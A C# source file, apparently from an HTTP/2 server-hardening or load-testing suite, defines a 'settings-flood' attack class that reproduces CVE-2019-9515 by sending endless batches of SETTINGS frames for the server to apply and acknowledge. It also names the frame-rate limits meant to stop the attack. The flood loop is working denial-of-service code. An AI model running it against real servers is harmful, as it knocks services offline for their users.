using Metering.Load;

namespace Metering.Attacks;

/// <summary>
/// Sends SETTINGS after SETTINGS, each of which the server has to apply and to acknowledge, and reads none of it.
/// CVE-2019-9515.
/// </summary>
internal sealed class SettingsFlood : Attack
{
    public override string Name => "settings-flood";

    public override string Does => "SETTINGS frames, each to be applied and acknowledged (CVE-2019-9515)";

    public override IReadOnlyList<string> MetBy => ["ControlFrames", "ControlFramesPerSecond"];

    public override string Unit => "frames";

    public override double UnitsPerSecond => 50_000;

    public override bool IsCutOff => true;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async(isRead: lane.Number % 2 == 0);
        var batch = new FrameBatch();
        uint window = Http2Frame.DefaultWindowBytes;
        while (true)
            await lane.SendAsync(connection, batch, most: 1000, frames => frames.Settings((Http2Frame.InitialWindowSize, window ^= 1)));
    }
}
